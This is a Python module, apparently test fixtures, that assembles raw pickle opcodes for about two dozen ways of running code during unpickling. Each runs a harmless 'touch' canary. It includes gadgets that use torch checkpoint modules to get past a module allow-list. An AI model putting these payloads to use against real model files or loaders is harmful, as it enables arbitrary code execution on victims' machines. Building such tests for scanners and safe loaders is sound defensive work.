"""Ways in which a pickle runs code, each as opcodes that leave one object on the stack.

All of them make a file, the canary, when they are run.
"""

import io
import os
import pickle
import struct
from collections.abc import Callable
from typing import Any

Code = Callable[[str], bytes]
TORCH_METADATA = "torch.distributed.checkpoint.metadata"
TORCH_FILES = "torch.distributed.checkpoint.filesystem"


def stream(body: bytes, behind: bytes = b"N.") -> bytes:
    """Return a whole pickle that runs `body`, drops what it made and goes on with another."""
    return b"\x80\x04" + body + b"0" + behind


def text(value: str) -> bytes:
    """Put text on the stack."""
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def data(value: bytes) -> bytes:
    """Put bytes on the stack."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    """Put what a module calls so on the stack."""
    return b"c" + f"{module}\n{attribute}\n".encode()


def dotted(module: str, path: str) -> bytes:
    """Put an attribute of an attribute of a module on the stack."""
    return text(module) + text(path) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    """Call a function with what the others put on the stack."""
    return function + b"(" + b"".join(arguments) + b"tR"


def state(made: bytes, *pairs: tuple[str, bytes], is_slots: bool = False) -> bytes:
    """Set attributes of an object by BUILD."""
    values = b"}(" + b"".join(text(key) + value for key, value in pairs) + b"u"
    return made + (b"N" + values + b"\x86" if is_slots else values) + b"b"


def _touch(canary: str) -> bytes:
    return text(f"touch {canary}")


def _python(canary: str) -> str:
    return f"open({canary!r}, 'w')"


def _namespace() -> bytes:
    return call(name("types", "SimpleNamespace"))


def _setstate(canary: str, is_slots: bool) -> bytes:
    """Give an object a __setstate__ of its own by BUILD; the next BUILD calls it."""
    made = state(_namespace(), ("__setstate__", name("os", "system")), is_slots=is_slots)
    return made + _touch(canary) + b"b"


def _dataclass(canary: str) -> bytes:
    """A dataclass is made by `exec` of a text with the names of its fields.

    Only names of torch's own checkpoint modules are used, which a list of modules lets through.
    """
    field = f"a=__import__('os').system('touch {canary}')): #"
    chosen = call(name(TORCH_FILES, "_get_device_module"), text("SymBool"))
    fields = b"}(" + text(field) + text("InitVar") + b"u"
    pairs = (("__annotations__", fields), ("__module__", text("dataclasses")))
    return call(name(TORCH_METADATA, "dataclass"), state(chosen, *pairs, is_slots=True))


def _field(canary: str) -> bytes:
    """The same with `field`, whose result is made to be the default of the field."""
    given = state(call(name(TORCH_METADATA, "field")), ("default", b"N"), is_slots=True)
    field = f"a=__import__('os').system('touch {canary}')): #"
    chosen = call(name(TORCH_FILES, "_get_device_module"), text("SymFloat"))
    fields = b"}(" + text(field) + text("InitVar") + b"u"
    pairs = ((field, given), ("__annotations__", fields), ("__module__", text("dataclasses")))
    return call(name(TORCH_METADATA, "dataclass"), state(chosen, *pairs, is_slots=True))


def _nested(canary: str, *loads: str) -> bytes:
    inner = stream(call(name("os", "system"), _touch(canary)))
    return call(name(*loads), data(inner))


def _object_array(canary: str) -> bytes:
    """An array of numpy that holds objects, as np.save(allow_pickle=True) writes them."""
    import numpy as np

    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            return os.system, (f"touch {canary}",)

    return pickle.dumps(np.array([Evil()], dtype=object), 2)[2:-1]


def _methodcaller(canary: str) -> bytes:
    caller = call(name("operator", "methodcaller"), text("system"), _touch(canary))
    return call(caller, call(name("importlib", "import_module"), text("os")))


def _persistent(canary: str) -> bytes:
    """A persistent id, as torch writes for a storage, whose parts are made by code."""
    parts = (
        text("storage"),
        name("torch", "FloatStorage"),
        call(name("os", "system"), _touch(canary)),
        text("cpu"),
        b"K\x01",
    )
    return b"(" + b"".join(parts) + b"tQ"


TECHNIQUES: dict[str, Code] = {
    "reduce os.system": lambda c: call(name("os", "system"), _touch(c)),
    "reduce posix.system": lambda c: call(name("posix", "system"), _touch(c)),
    "reduce subprocess": lambda c: call(
        name("subprocess", "check_call"), b"]" + text("touch") + b"a" + text(c) + b"a"
    ),
    "reduce exec": lambda c: call(name("builtins", "exec"), text(_python(c))),
    "reduce eval": lambda c: call(name("builtins", "eval"), text(_python(c))),
    "reduce open": lambda c: call(name("builtins", "open"), text(c), text("w")),
    "reduce getattr": lambda c: call(
        call(
            name("builtins", "getattr"),
            call(name("importlib", "import_module"), text("os")),
            text("system"),
        ),
        _touch(c),
    ),
    "inst": lambda c: b"(" + _touch(c) + b"iposix\nsystem\n",
    "obj": lambda c: b"(" + name("os", "system") + _touch(c) + b"o",
    "build": lambda c: _setstate(c, is_slots=False),
    "setattr": lambda c: _setstate(c, is_slots=True),
    "dataclass of torch's modules": _dataclass,
    "field of torch's modules": _field,
    "a path of names": lambda c: call(dotted("torch.serialization", "os.system"), _touch(c)),
    "a path in torch.storage": lambda c: call(
        dotted("torch.storage", "io.open"), text(c), text("w")
    ),
    "methodcaller": _methodcaller,
    "runpy": lambda c: call(name("runpy", "_run_code"), text(_python(c)), b"}"),
    "pathlib touch": lambda c: call(
        dotted("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), text(c))
    ),
    "persistent id": _persistent,
    "nested pickle.loads": lambda c: _nested(c, "pickle", "loads"),
    "nested _pickle.loads": lambda c: _nested(c, "_pickle", "loads"),
    "nested torch._load_from_bytes": lambda c: _nested(c, "torch.storage", "_load_from_bytes"),
    "an array of objects": _object_array,
    "ordered dict with state": lambda c: state(
        call(name("collections", "OrderedDict")),
        ("__reduce__", call(name("os", "system"), _touch(c))),
    ),
    "partial": lambda c: call(call(name("functools", "partial"), name("os", "system")), _touch(c)),
    "map": lambda c: call(
        name("builtins", "list"),
        call(name("builtins", "map"), name("os", "system"), b"]" + _touch(c) + b"a"),
    ),
}


def run(body: bytes) -> None:
    """Unpickle as a careless program does: persistent ids are taken as they come."""

    class Careless(pickle.Unpickler):
        def persistent_load(self, given: object) -> object:
            return given

    Careless(io.BytesIO(stream(body))).load()
